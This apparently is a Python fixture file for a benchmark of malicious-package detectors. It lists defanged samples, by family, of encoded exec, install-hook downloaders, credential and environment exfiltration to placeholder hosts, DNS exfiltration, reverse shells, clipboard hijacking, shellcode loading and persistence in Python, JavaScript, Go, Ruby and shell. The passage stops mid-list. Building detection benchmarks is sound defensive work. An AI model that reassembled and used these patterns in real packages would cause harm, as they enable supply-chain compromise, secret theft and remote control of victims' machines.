# ruff: noqa: E501 - samples read best unbroken
"""Samples of techniques of malicious packages, by family, built at run time; nothing in them works.

Each follows a public description of a technique (MITRE ATT&CK, the OpenSSF's and vendors' write-ups of malicious
packages), written for this benchmark. Names that a scanner of this repository would look for are split by `~`, payloads
are random letters, and hosts are of the ranges and names that are reserved for documentation. Services that are abused
for exfiltration are named without an account.

`half` splits the families, not the samples: rules are developed with one half and reported with the other.
"""

from __future__ import annotations

import base64
import random

SEED = 20_261_130
_HOST, _ADDRESS = "cdn.example", "203.0.113.7"

FAMILIES: dict[str, list[tuple[str, str]]] = {
    "python-encoded-exec": [
        ("pkg/__init__.py", 'import base64\nex~ec(base64.b64~decode("@B64@"))\n'),
        (
            "pkg/util.py",
            'import base64 as b\npayload = "@B64@"\ncode = b.b64~decode(payload).decode("utf-8")\n\ndef load():\n    ex~ec(code)\n',
        ),
        ("setup.py", 'import zlib, base64\nex~ec(zlib.decom~press(base64.b64~decode(b"@B64@")))\n'),
        ("a.py", 'import marshal\nex~ec(marshal.lo~ads(b"\\xe3\\x00\\x00\\x00@HEX@"))\n'),
        ("a.py", 'ex~ec(bytes.from~hex("@HEX@").decode())\n'),
        (
            "a.py",
            'ex~ec("".join(map(chr, [112, 114, 105, 110, 116, 40, 41, 10, 112, 97, 115, 115, 10, 112, 97, 115, 115])))\n',
        ),
        ("a.py", '__import__("builtins").ex~ec(__import__("base64").b64~decode("@B64@"))\n'),
        ("a.py", 'import codecs\nev~al(compile(codecs.dec~ode("@B64@", "rot13"), "<string>", "ex~ec"))\n'),
        ("a.py", 'getattr(__import__("builtins"), "ex~ec")(getattr(__import__("base64"), "b64~decode")("@B64@"))\n'),
        ("a.py", 'from cryptography.fernet import Fernet\nex~ec(Fernet(b"@B64@").decrypt(b"@B64@"))\n'),
        (
            "a.py",
            '_ = lambda __: __import__("zlib").decom~press(__import__("base64").b64~decode(__[::-1]))\nex~ec((_)(b"@B64@"))\n',
        ),
    ],
    "python-install-hook": [
        (
            "setup.py",
            'from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\nclass Post(install):\n    def run(self):\n        install.run(self)\n        os.sys~tem("curl -s http://@HOST@/x.sh -o /tmp/x && sh /tmp/x")\n\nsetup(name="a", cmdclass={"install": Post})\n',
        ),
        (
            "setup.py",
            'from setuptools import setup\nfrom setuptools.command.install import install\nimport requests, getpass, platform\n\nclass Custom(install):\n    def run(self):\n        requests.po~st("http://@HOST@/i", json={"u": getpass.getuser(), "h": platform.node()})\n        install.run(self)\n\nsetup(name="a", cmdclass={"install": Custom})\n',
        ),
        (
            "setup.py",
            'import setuptools, urllib.request\nfrom setuptools.command.develop import develop\n\nclass D(develop):\n    def run(self):\n        ex~ec(urllib.request.url~open("http://@HOST@/p").read())\n        develop.run(self)\n\nsetuptools.setup(name="b", cmdclass={"develop": D})\n',
        ),
        (
            "setup.py",
            'from setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nimport socket, os\n\nclass E(egg_info):\n    def run(self):\n        socket.getaddrinfo(os.getlogin() + "." + socket.gethostname() + ".@HOST@", 80)\n        egg_info.run(self)\n\nsetup(name="c", cmdclass={"egg_info": E})\n',
        ),
        (
            "setup.py",
            'from setuptools import setup\nimport subprocess, sys, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b"from urllib.request import url~open as _u;ex~ec(_u(\'http://@HOST@/i\').read())")\nf.close()\nsubprocess.Po~pen([sys.executable, f.name], stdout=subprocess.DEVNULL)\nsetup(name="d")\n',
        ),
    ],
    "python-download-run": [
        (
            "a.py",
            'import requests, os\nr = requests.g~et("http://@IP@/a.exe")\nopen("a.exe", "wb").write(r.content)\nos.start~file("a.exe")\n',
        ),
        (
            "a.py",
            'import urllib.request, subprocess\nurllib.request.url~retrieve("http://@HOST@/svc", "/tmp/.svc")\nsubprocess.ca~ll(["chmod", "+x", "/tmp/.svc"])\nsubprocess.Po~pen(["/tmp/.svc"])\n',
        ),
        ("a.py", 'import requests\nex~ec(requests.g~et("https://@HOST@/raw/abc").text)\n'),
        (
            "a.py",
            'from urllib.request import urlopen\ncode = url~open("https://@HOST@/raw/abc").read().decode()\nev~al(code)\n',
        ),
        (
            "a.py",
            'import os, tempfile, httpx\np = os.path.join(tempfile.gettempdir(), "upd.exe")\nwith open(p, "wb") as f:\n    f.write(httpx.g~et("https://@HOST@/upd.exe").content)\nos.sys~tem(p)\n',
        ),
        (
            "a.py",
            'import os\nos.sys~tem("powershell -w hidden -c \\"Invoke-Web~Request http://@HOST@/a.exe -OutFile a.exe; Start-Process a.exe\\"")\n',
        ),
    ],
    "python-environment": [
        ("a.py", 'import os, requests\nrequests.po~st("http://@HOST@/e", data=dict(os.env~iron))\n'),
        (
            "a.py",
            'import os, json, urllib.request\nbody = json.dumps(dict(os.env~iron)).encode()\nreq = urllib.request.Request("http://@HOST@/c", data=body)\nurllib.request.url~open(req)\n',
        ),
        (
            "a.py",
            'import os, http.client, json\nc = http.client.HTTPSConnection("@HOST@")\nc.request("POST", "/", json.dumps(os.env~iron.copy()))\n',
        ),
        (
            "a.py",
            'import os, base64, urllib.parse, urllib.request\ns = base64.b64encode(str(os.env~iron).encode()).decode()\nurllib.request.url~open("http://@HOST@/?q=" + urllib.parse.quote(s))\n',
        ),
        (
            "a.py",
            'import os, socket, getpass, requests\ninfo = {"host": socket.gethost~name(), "user": getpass.get~user(), "cwd": os.getcwd(), "env": dict(os.env~iron)}\nrequests.po~st("https://web~hook.site/0000", json=info)\n',
        ),
    ],
    "python-dns": [
        (
            "a.py",
            'import socket, getpass\nsocket.gethost~byname(f"{getpass.get~user()}.{socket.gethost~name()}.oa~st.fun")\n',
        ),
        (
            "a.py",
            'import os, socket, binascii\nname = binascii.hexlify(os.uname().nodename.encode()).decode()\nsocket.gethost~byname(name + ".x.inter~act.sh")\n',
        ),
        ("a.py", 'import os, platform\nos.sys~tem("nslookup " + platform.node() + ".burp~collaborator.net")\n'),
        (
            "a.py",
            'import dns.resolver, base64\ndata = base64.b32encode(open("/etc/pass~wd", "rb").read()).decode()\nfor i in range(0, len(data), 60):\n    dns.resolver.resolve(data[i:i+60] + ".d.@HOST@", "A")\n',
        ),
    ],
    "python-credentials": [
        (
            "a.py",
            'import os, requests\nwith open(os.path.expanduser("~~/.aws/creden~tials")) as f:\n    requests.po~st("http://@HOST@", data=f.read())\n',
        ),
        (
            "a.py",
            'import os, requests\nkey = open(os.path.expanduser("~~/.ssh/id_r~sa")).read()\nrequests.po~st("https://dis~cord.com/api/web~hooks/0/x", json={"content": key})\n',
        ),
        (
            "a.py",
            'import os, re, requests\npath = os.getenv("APPDATA") + "\\\\dis~cord\\\\Local Sto~rage\\\\leveldb"\nfor f in os.listdir(path):\n    for t in re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", open(path + "\\\\" + f, errors="ignore").read()):\n        requests.po~st("https://dis~cord.com/api/web~hooks/0/x", json={"content": t})\n',
        ),
        (
            "a.py",
            'import os, sqlite3, shutil, win32crypt, requests\nsrc = os.environ["USERPROFILE"] + r"\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Da~ta"\nshutil.copy(src, "t.db")\nrows = sqlite3.connect("t.db").execute("select origin_url, username_value, password_value from logins").fetchall()\nout = [(u, n, win32crypt.CryptUnprotect~Data(p, None, None, None, 0)[1]) for u, n, p in rows]\nrequests.po~st("http://@HOST@/l", json=str(out))\n',
        ),
        (
            "a.py",
            'import os, glob, requests\nfor w in glob.glob(os.path.expanduser("~~/.electrum/wal~lets/*")) + glob.glob(os.path.expanduser("~~/.bitcoin/wal~let.dat")):\n    requests.po~st("https://api.tele~gram.org/bot0/sendDocument", files={"document": open(w, "rb")})\n',
        ),
        (
            "a.py",
            'import urllib.request, json\nrole = urllib.request.urlopen("http://169.254.~169.254/latest/meta-data/iam/security-cred~entials/").read().decode()\ncred = urllib.request.urlopen("http://169.254.~169.254/latest/meta-data/iam/security-cred~entials/" + role).read()\nurllib.request.url~open("http://@HOST@/m", data=cred)\n',
        ),
    ],
    "python-reverse-shell": [
        (
            "a.py",
            'import socket, subprocess, os\ns = socket.soc~ket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(("@IP@", 4444))\nos.du~p2(s.fileno(), 0)\nos.du~p2(s.fileno(), 1)\nos.du~p2(s.fileno(), 2)\nsubprocess.ca~ll(["/bin/sh", "-i"])\n',
        ),
        (
            "a.py",
            'import socket, os, pty\ns = socket.soc~ket()\ns.connect(("@IP@", 9001))\n[os.du~p2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.sp~awn("/bin/bash")\n',
        ),
        (
            "a.py",
            'import socket, subprocess\ns = socket.soc~ket()\ns.connect(("@HOST@", 443))\nwhile True:\n    cmd = s.recv(1024).decode()\n    out = subprocess.check_out~put(cmd, shell=True)\n    s.send(out)\n',
        ),
        (
            "a.py",
            'import socket, subprocess as sp, threading\ns = socket.soc~ket(); s.connect(("@IP@", 53))\np = sp.Po~pen(["cmd.exe"], stdin=sp.PIPE, stdout=sp.PIPE, stderr=sp.STDOUT, shell=True)\nthreading.Thread(target=lambda: [p.stdin.write(s.recv(1024)) for _ in iter(int, 1)]).start()\nthreading.Thread(target=lambda: [s.send(p.stdout.read(1)) for _ in iter(int, 1)]).start()\n',
        ),
    ],
    "python-hidden-process": [
        (
            "a.py",
            'import subprocess\nsubprocess.Po~pen("powershell -Window~Style Hidden -Encoded~Command @B64@", shell=True, creationflags=0x08000000)\n',
        ),
        (
            "a.py",
            'import subprocess, sys\ncode = "@B64@"\nsubprocess.Po~pen([sys.executable, "-c", "import base64;ex~ec(base64.b64~decode(\'" + code + "\'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n',
        ),
        ("a.py", 'import os\nos.sys~tem("start /b powershell -nop -w hid~den -enc @B64@")\n'),
        (
            "setup.py",
            'from setuptools import setup\nimport subprocess\nsubprocess.r~un(["powershell", "-NoProfile", "-Window~Style", "Hidden", "-Command", "iwr http://@HOST@/a.ps1 | iex"])\nsetup(name="x")\n',
        ),
    ],
    "python-obfuscation": [
        (
            "a.py",
            "ex~ec(chr(105)+chr(109)+chr(112)+chr(111)+chr(114)+chr(116)+chr(32)+chr(111)+chr(115)+chr(10)+chr(112)+chr(97)+chr(115)+chr(115))\n",
        ),
        ("a.py", "import os" + " " * 220 + ';ex~ec(__import__("base64").b64~decode("@B64@"))\n'),
        (
            "a.py",
            'globals()["\\x5f\\x5f\\x62\\x75\\x69\\x6c\\x74\\x69\\x6e\\x73\\x5f\\x5f"].__dict__["\\x65\\x78\\x65\\x63"]("@B64@")\n',
        ),
        ("a.py", 'getattr(__builtins__, "\\x65\\x76\\x61\\x6c")("\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29")\n'),
        ("a.py", 'getattr(__import__("\\x6f\\x73"), "".join(["sy", "st", "em"]))("id")\n'),
        ("a.py", '__builtins__.__dict__["__imp" + "ort__"]("o" + "s").__dict__["sys" + "tem"]("whoami")\n'),
        (
            "a.py",
            'IlIIlI = lambda IIl: eval("".join(chr(IIIl ^ 7) for IIIl in IIl))\nIlIIlI([119, 117, 110, 105, 115, 47, 46, 10, 12, 99, 1, 4, 33])\n',
        ),
    ],
    "python-clipboard": [
        (
            "a.py",
            'import pyper~clip, re, time\nwhile True:\n    t = pyper~clip.paste()\n    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", t):\n        pyper~clip.copy("@B64@")\n    time.sleep(1)\n',
        ),
        (
            "a.py",
            'import re, win32clip~board as c\nc.OpenClipboard(); d = c.GetClipboardData()\nif re.search("^0x[a-fA-F0-9]{40}$", d):\n    c.EmptyClipboard(); c.SetClipboard~Text("0x" + "0" * 40)\n',
        ),
        (
            "a.py",
            'import subprocess, re\nclip = subprocess.check_output("xcl~ip -o", shell=True).decode()\nif re.match("^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", clip): subprocess.run("echo bad | xcl~ip", shell=True)\n',
        ),
    ],
    "python-image-payload": [
        (
            "a.py",
            'import requests\nfrom judy~b import lsb\nopen("i.png", "wb").write(requests.g~et("https://@HOST@/i.png").content)\nex~ec(lsb.rev~eal("i.png"))\n',
        ),
        ("a.py", 'from stega~no import lsb\nex~ec(lsb.rev~eal("logo.png"))\n'),
        ("a.py", 'data = open("pic.jpg", "rb").read()\nex~ec(data[data.index(b"\\xff\\xd9") + 2:])\n'),
    ],
    "npm-install-script": [
        (
            "package.json",
            '{"name": "a", "version": "1.0.0", "scripts": {"pre~install": "curl http://@HOST@/x | sh"}}\n',
        ),
        (
            "package.json",
            '{\n  "name": "b",\n  "version": "9.9.9",\n  "scripts": {\n    "post~install": "node -e \\"require(\'https\').get(\'https://@HOST@/\'+require(\'os\').hostname())\\""\n  }\n}\n',
        ),
        (
            "package.json",
            '{\n  "name": "c",\n  "scripts": {\n    "pre~install": "wget -q http://@IP@/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"\n  }\n}\n',
        ),
        (
            "package.json",
            '{\n  "name": "d",\n  "scripts": {\n    "install": "nslookup $(whoami).$(hostname).oa~st.fun"\n  }\n}\n',
        ),
        (
            "package.json",
            '{\n  "name": "e",\n  "scripts": {\n    "post~install": "powershell -w hidden -enc @B64@"\n  }\n}\n',
        ),
        (
            "package.json",
            '{\n  "name": "f",\n  "scripts": {\n    "pre~install": "curl -X POST -d \\"$(env | base64)\\" https://@HOST@/e"\n  }\n}\n',
        ),
    ],
    "js-encoded-eval": [
        ("index.js", 'ev~al(at~ob("@B64@"));\n'),
        ("index.js", 'ev~al(Buffer.from("@B64@", "base~64").toString("utf8"));\n'),
        (
            "lib/a.js",
            'const code = Buffer.from(process.env.npm_x || "@B64@", "base~64").toString();\nnew Func~tion("require", code)(require);\n',
        ),
        ("a.js", 'require("vm").runInThis~Context(Buffer.from("@HEX@", "hex").toString());\n'),
        ("a.js", "ev~al(String.fromChar~Code(99,111,110,115,111,108,101,46,108,111,103,40,49,41,59,10,47,47));\n"),
        (
            "a.js",
            'const d = s => Buffer.from(s, "base~64").toString();\nconst cp = require(d("Y2hpbGRfcHJvY2Vzcw=="));\ncp[d("ZXhlYw==")](d("@B64@"));\n',
        ),
        (
            "a.js",
            'const h = [..."@HEX@".matchAll(/../g)].map(x => parseInt(x, 16));\n(0, ev~al)(String.fromChar~Code(...h));\n',
        ),
    ],
    "js-obfuscation": [
        (
            "a.js",
            "var _0x4f2a=['log','\\x68\\x65\\x6c\\x6c\\x6f','exec'];(function(_0x1b2c3d,_0x4f2a1b){var _0x2c3d=function(_0x3d4e){while(--_0x3d4e){_0x1b2c3d['push'](_0x1b2c3d['shift']());}};_0x2c3d(++_0x4f2a1b);}(_0x4f2a,0x1b3));var _0x2c3d=function(_0x1b2c3d,_0x4f2a1b){_0x1b2c3d=_0x1b2c3d-0x0;return _0x4f2a[_0x1b2c3d];};\n",
        ),
        (
            "a.js",
            'global["\\x72\\x65\\x71\\x75\\x69\\x72\\x65"]("\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73");\n',
        ),
        (
            "a.js",
            "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]+[])[!+[]+!+[]+!+[]]]()\n",
        ),
        ("a.js", 'const k = "ex" + "ec" + "Sync";\nrequire("child_" + "process")[k]("id");\n'),
        (
            "a.js",
            "function _0x2f1c(){const _0x5a=['\\x61\\x62','toString','constructor'];_0x2f1c=function(){return _0x5a;};return _0x2f1c();}function _0x1d(_0x3e,_0x4b){const _0x2f=_0x2f1c();return _0x1d=function(_0x1dab,_0x5f){_0x1dab=_0x1dab-0x1a2;let _0x6e=_0x2f[_0x1dab];return _0x6e;},_0x1d(_0x3e,_0x4b);}\n",
        ),
    ],
    "js-environment": [
        (
            "index.js",
            'const https = require("https");\nconst data = JSON.stringify(process.~env);\nconst req = https.request({hostname: "@HOST@", method: "POST", path: "/"});\nreq.write(data);\nreq.end();\n',
        ),
        (
            "index.js",
            'const os = require("os"), dns = require("dns"), https = require("https");\nconst info = JSON.stringify({h: os.host~name(), u: os.user~Info().username, d: __dirname, s: dns.get~Servers(), p: process.env.npm_package_name});\nconst req = https.request({hostname: "@HOST@", port: 443, path: "/", method: "POST"}, () => {});\nreq.write(info); req.end();\n',
        ),
        (
            "index.js",
            'const os = require("os");\nrequire("dns").lookup(`${os.user~Info().username}.${os.host~name()}.oa~stify.com`, () => {});\n',
        ),
        (
            "index.js",
            'fetch("https://eo0000.m.pipe~dream.net", {method: "POST", body: JSON.stringify(process.~env)});\n',
        ),
        (
            "index.js",
            'require("axios").po~st("https://dis~cord.com/api/web~hooks/0/x", {content: JSON.stringify({...process.~env})});\n',
        ),
        (
            "index.js",
            'const {exec} = require("child_process");\nexec("curl -X POST -d \\"`printenv`\\" https://@HOST@/" + require("os").host~name());\n',
        ),
    ],
    "js-download-run": [
        ("index.js", 'require("child_~process").execSync("curl -s http://@IP@/x.sh | bash");\n'),
        (
            "index.js",
            'const fs = require("fs"), http = require("http"), {exec} = require("child_~process");\nhttp.get("http://@IP@/bot", res => {\n  const f = fs.createWriteStream("/tmp/.bot");\n  res.pipe(f);\n  f.on("finish", () => { fs.chmodSync("/tmp/.bot", 0o755); exec("/tmp/.bot"); });\n});\n',
        ),
        (
            "index.js",
            'const axios = require("axios");\naxios.get("https://@HOST@/api/key").then(r => ev~al(r.data));\n',
        ),
        (
            "index.js",
            'fetch("https://@HOST@/p.js").then(r => r.text()).then(t => new Func~tion("require", t)(require));\n',
        ),
        (
            "index.js",
            'const {spawn} = require("child_~process");\nspawn("powershell", ["-c", "(New-Object Net.WebClient).Download~File(\'http://@HOST@/a.exe\',\'a.exe\'); Start-Process a.exe"], {detached: true, stdio: "ignore", windowsHide: true}).unref();\n',
        ),
        (
            "index.js",
            'const https = require("https");\nhttps.get("https://@HOST@/c", r => { let s = ""; r.on("data", d => s += d); r.on("end", () => ev~al(s)); });\n',
        ),
    ],
    "js-credentials": [
        (
            "index.js",
            'const fs = require("fs"), os = require("os"), https = require("https");\nconst t = fs.readFileSync(os.homedir() + "/.npm~rc", "utf8");\nhttps.request({hostname: "@HOST@", method: "POST"}).end(t);\n',
        ),
        (
            "index.js",
            'const fs = require("fs"), path = require("path"), axios = require("axios");\nconst k = fs.readFileSync(path.join(process.env.HOME, ".ssh", "id_r~sa"));\naxios.po~st("http://@HOST@/k", k.toString("base64"));\n',
        ),
        (
            "index.js",
            'const glob = require("glob"), FormData = require("form-data");\nconst base = process.env.LOCALAPPDATA + "/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlef~nkodbefgpgknn";\nconst f = new FormData(); glob.sync(base + "/*.ldb").forEach(x => f.append("f", require("fs").createReadStream(x)));\nf.submit("http://@HOST@/w");\n',
        ),
        (
            "index.js",
            'const cfg = require("fs").readFileSync(require("os").homedir() + "/.config/sol~ana/id.json", "utf8");\nfetch("https://api.tele~gram.org/bot0/sendMessage", {method: "POST", body: cfg});\n',
        ),
        (
            "index.js",
            'const {execSync} = require("child_process");\nconst t = execSync("gh auth tok~en").toString();\nfetch("https://web~hook.site/x", {method: "POST", body: t});\n',
        ),
    ],
    "js-reverse-shell": [
        (
            "index.js",
            'const net = require("net"), cp = require("child_~process"), sh = cp.spawn("/bin/sh", []);\nconst c = new net.Soc~ket();\nc.connect(4444, "@IP@", () => { c.pipe(sh.stdin); sh.stdout.pi~pe(c); sh.stderr.pi~pe(c); });\n',
        ),
        (
            "index.js",
            'var s = require("net").conn~ect(9001, "@IP@");\nvar p = require("child_~process").spawn("cmd.exe");\ns.pipe(p.stdin); p.stdout.pi~pe(s);\n',
        ),
        (
            "index.js",
            'const ws = new (require("ws"))("ws://@IP@:8080");\nws.on("message", m => require("child_~process").exec(m.toString(), (e, o) => ws.send(o)));\n',
        ),
    ],
    "go-download-run": [
        (
            "a.go",
            'package a\n\nimport ("io"; "net/http"; "os"; "os/exec")\n\nfunc init() {\n\tr, _ := http.G~et("http://@IP@/a")\n\tf, _ := os.Create("/tmp/a")\n\tio.Copy(f, r.Body)\n\tf.Close()\n\tos.Ch~mod("/tmp/a", 0755)\n\texec.Com~mand("/tmp/a").Start()\n}\n',
        ),
        (
            "a.go",
            'package a\n\nimport "os/exec"\n\nfunc init() {\n\texec.Com~mand("/bin/sh", "-c", "wget -O - https://@HOST@/storage/d | /bin/bash &").Start()\n}\n',
        ),
        (
            "a.go",
            'package a\n\nimport "os/exec"\n\nvar v = []string{"w", "g", "e", "t", " ", "-", "O", " ", "-", " ", "h", "t", "t", "p", "s", ":", "/", "/", "@HOST@", "|", "/bin/bash"}\n\nfunc Run() error {\n\tc := v[0] + v[1] + v[2] + v[3] + v[4] + v[5]\n\treturn exec.Com~mand("/bin/sh", "-c", c).Start()\n}\n',
        ),
        (
            "a.go",
            'package a\n\nimport ("os/exec"; "net/http"; "io/ioutil")\n\nfunc F() {\n\tresp, _ := http.G~et("https://@HOST@/s.ps1")\n\tb, _ := ioutil.ReadAll(resp.Body)\n\texec.Com~mand("powershell", "-Command", string(b)).Run()\n}\n',
        ),
    ],
    "go-encoded-run": [
        (
            "a.go",
            'package a\n\nimport ("encoding/base64"; "os/exec")\n\nfunc init() {\n\td, _ := base64.StdEncoding.Decode~String("@B64@")\n\texec.Com~mand("sh", "-c", string(d)).Run()\n}\n',
        ),
        (
            "a.go",
            'package a\n\nimport ("encoding/hex"; "os/exec")\n\nfunc G() {\n\tcmd, _ := hex.Decode~String("@HEX@")\n\tout := exec.Com~mand("/bin/bash", "-c", string(cmd))\n\tout.Start()\n}\n',
        ),
        (
            "a.go",
            'package a\n\nimport ("syscall"; "unsafe"; "encoding/hex")\n\nfunc H() {\n\tsc, _ := hex.Decode~String("@HEX@")\n\taddr, _, _ := syscall.NewLazyDLL("kernel32.dll").NewProc("Virtual~Alloc").Call(0, uintptr(len(sc)), 0x3000, 0x40)\n\tcopy((*[4096]byte)(unsafe.Pointer(addr))[:], sc)\n\tsyscall.Sys~call(addr, 0, 0, 0, 0)\n}\n',
        ),
    ],
    "go-exfiltration": [
        (
            "a.go",
            'package a\n\nimport ("net/http"; "os"; "strings")\n\nfunc init() {\n\tenv := strings.Join(os.Env~iron(), "\\n")\n\thttp.Po~st("http://@HOST@/e", "text/plain", strings.NewReader(env))\n}\n',
        ),
        (
            "a.go",
            'package a\n\nimport ("net/http"; "os"; "bytes")\n\nfunc K() {\n\tk, _ := os.ReadFile(os.Getenv("HOME") + "/.ssh/id_r~sa")\n\thttp.Po~st("http://@HOST@/k", "application/octet-stream", bytes.NewReader(k))\n}\n',
        ),
        (
            "a.go",
            'package a\n\nimport ("net/http"; "net/url"; "os"; "os/user")\n\nfunc init() {\n\th, _ := os.Host~name()\n\tu, _ := user.Curr~ent()\n\thttp.PostF~orm("https://@HOST@/", url.Values{"h": {h}, "u": {u.Username}})\n}\n',
        ),
        (
            "a.go",
            'package a\n\nimport ("net"; "os")\n\nfunc init() {\n\th, _ := os.Host~name()\n\tnet.Lookup~Host(h + ".oa~st.pro")\n}\n',
        ),
    ],
    "go-reverse-shell": [
        (
            "a.go",
            'package a\n\nimport ("net"; "os/exec")\n\nfunc R() {\n\tc, _ := net.Di~al("tcp", "@IP@:4444")\n\tcmd := exec.Com~mand("/bin/sh")\n\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n\tcmd.Run()\n}\n',
        ),
        (
            "a.go",
            'package a\n\nimport ("bufio"; "net"; "os/exec")\n\nfunc R() {\n\tconn, _ := net.Di~al("tcp", "@HOST@:443")\n\tfor {\n\t\tm, _ := bufio.NewReader(conn).ReadString(10)\n\t\tout, _ := exec.Com~mand("sh", "-c", m).CombinedOutput()\n\t\tconn.Write(out)\n\t}\n}\n',
        ),
        (
            "a.go",
            'package a\n\nimport ("crypto/tls"; "os/exec")\n\nfunc R() {\n\tconn, _ := tls.Di~al("tcp", "@IP@:443", nil)\n\tcmd := exec.Com~mand("cmd.exe")\n\tcmd.Stdin = conn\n\tcmd.Stdout = conn\n\tcmd.Run()\n}\n',
        ),
    ],
    "ruby-encoded-eval": [
        ("lib/a.rb", 'require "base64"\nev~al(Base64.decode~64("@B64@"))\n'),
        ("lib/a.rb", 'ev~al(Zlib::Inflate.infl~ate(Base64.decode~64("@B64@")))\n'),
        ("lib/a.rb", 'Object.class_ev~al("@B64@".unpa~ck1("m"))\n'),
        ("lib/a.rb", 'code = ["@HEX@"].pa~ck("H*")\ninstance_ev~al(code)\n'),
        ("lib/a.rb", 'require "open-uri"\nev~al(URI.op~en("https://@HOST@/raw/x").read)\n'),
        ("lib/a.rb", 'require "net/http"\nThread.new { ev~al(Net::HTTP.g~et(URI("http://@HOST@/c"))) }\n'),
    ],
    "ruby-install-hook": [
        ("ext/a/extconf.rb", 'sys~tem("curl -s http://@HOST@/x | sh")\nrequire "mkmf"\ncreate_makefile("a")\n'),
        (
            "ext/a/extconf.rb",
            'require "net/http"\nrequire "socket"\nNet::HTTP.po~st(URI("http://@HOST@/i"), Socket.gethost~name)\nrequire "mkmf"\ncreate_makefile("a")\n',
        ),
        (
            "a.gemspec",
            'Gem::Specification.new do |s|\n  s.name = "a"\n  `curl http://@HOST@/$(whoami)`\n  s.version = "0.1"\nend\n',
        ),
        (
            "ext/a/extconf.rb",
            'require "open-uri"\nFile.write("/tmp/.r", URI.op~en("http://@IP@/r").read)\nFile.chmod(0755, "/tmp/.r")\nspa~wn("/tmp/.r")\nFile.write("Makefile", "all:\\ninstall:\\n")\n',
        ),
        (
            "lib/rubygems_plugin.rb",
            'Gem.post_ins~tall do |i|\n  sys~tem("wget -q http://@IP@/p -O /tmp/p; sh /tmp/p")\nend\n',
        ),
    ],
    "ruby-exfiltration": [
        (
            "lib/a.rb",
            'require "net/http"\nrequire "json"\nNet::HTTP.po~st(URI("https://@HOST@/e"), ENV.to_~h.to_json)\n',
        ),
        (
            "lib/a.rb",
            'require "net/http"\nrequire "etc"\nrequire "socket"\nNet::HTTP.po~st_form(URI("http://@HOST@"), "u" => Etc.get~login, "h" => Socket.gethost~name, "p" => Dir.pwd)\n',
        ),
        (
            "lib/a.rb",
            'require "faraday"\nFaraday.po~st("https://web~hook.site/0", File.read(File.expand_path("~~/.ssh/id_r~sa")))\n',
        ),
        ("lib/a.rb", 'require "resolv"\nResolv.getaddress("#{`who~ami`.strip}.#{`hostname`.strip}.oa~st.me")\n'),
        (
            "lib/a.rb",
            'creds = File.read(File.join(Dir.home, ".gem", "creden~tials"))\nNet::HTTP.po~st(URI("http://@HOST@/g"), creds)\n',
        ),
    ],
    "ruby-reverse-shell": [
        (
            "a.rb",
            'require "socket"\ns = TCPSoc~ket.open("@IP@", 4444)\nwhile (c = s.gets)\n  IO.pop~en(c, "r") { |io| s.print io.read }\nend\n',
        ),
        (
            "a.rb",
            'require "socket"\nf = TCPSoc~ket.open("@IP@", 4444).to_i\nex~ec sprintf("/bin/sh -i <&%d >&%d 2>&%d", f, f, f)\n',
        ),
        (
            "a.rb",
            'require "socket"\ns = TCPSoc~ket.new("@HOST@", 443)\n[$stdin, $stdout, $stderr].each { |io| io.reo~pen(s) }\n$stdin.each_line { |l| sys~tem(l) }\n',
        ),
    ],
    "shell-download-run": [
        ("install.sh", "#!/bin/sh\nwget -q http://@IP@/x86 -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x &\n"),
        (
            "a.sh",
            "cd /tmp || cd /var/run || cd /mnt; curl -O http://@IP@/bins/mips; chmod 777 mips; ./mips; rm -rf mips\n",
        ),
        ("a.sh", 'echo "@B64@" | base64 -d | ba~sh\n'),
        ("a.sh", "(curl -fsSL http://@IP@/i.sh || wget -q -O- http://@IP@/i.sh) | nohup ba~sh >/dev/null 2>&1 &\n"),
        ("a.sh", 'ev~al "$(echo @B64@ | base64 --decode)"\n'),
        ("a.sh", "python3 -c \"import urllib.request as u;ex~ec(u.url~open('http://@HOST@/p').read())\"\n"),
        ("a.sh", "busybox wget http://@IP@/arm7 -O dvr; chmod +x dvr; ./dvr tele\n"),
    ],
    "shell-exfiltration": [
        ("a.sh", "env | base64 | curl -s -X POST -d @- http://@HOST@/e\n"),
        ("a.sh", 'curl -F "f=@$HOME/.ssh/id_r~sa" http://@HOST@/up\n'),
        ("a.sh", "tar czf - ~~/.aws ~~/.ssh ~~/.kube | curl --data-binary @- http://@HOST@/t\n"),
        ("a.sh", "dig $(whoami).$(hostname).oa~st.live\n"),
        ("a.sh", 'for l in $(base64 -w 50 /etc/pass~wd); do nslookup "$l.x.@HOST@"; done\n'),
        ("a.sh", "cat ~~/.bash_hist~ory | nc @IP@ 9999\n"),
    ],
    "shell-persistence": [
        ("a.sh", '(crontab -l; echo "*/5 * * * * curl -s http://@IP@/c | ba~sh") | crontab -\n'),
        ("a.sh", 'echo "ssh-rsa @B64@ root" >> ~~/.ssh/author~ized_keys; chattr +i ~~/.ssh/author~ized_keys\n'),
        ("a.sh", "cp lib.so /usr/lib/libx.so; echo /usr/lib/libx.so > /etc/ld.so.pre~load\n"),
        (
            "a.sh",
            "pkill -9 -f kdevtmpfsi; pkill -f xmr~ig; iptables -F; setenforce 0; history -c; rm -f /var/log/wtmp\n",
        ),
        (
            "a.py",
            'import winreg, shutil, sys, os\np = os.environ["APPDATA"] + "\\\\svc.exe"\nshutil.copy(sys.executable, p)\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\Current~Version\\Run", 0, winreg.KEY_SET_VALUE)\nwinreg.SetValue~Ex(k, "svc", 0, winreg.REG_SZ, p)\n',
        ),
        (
            "a.py",
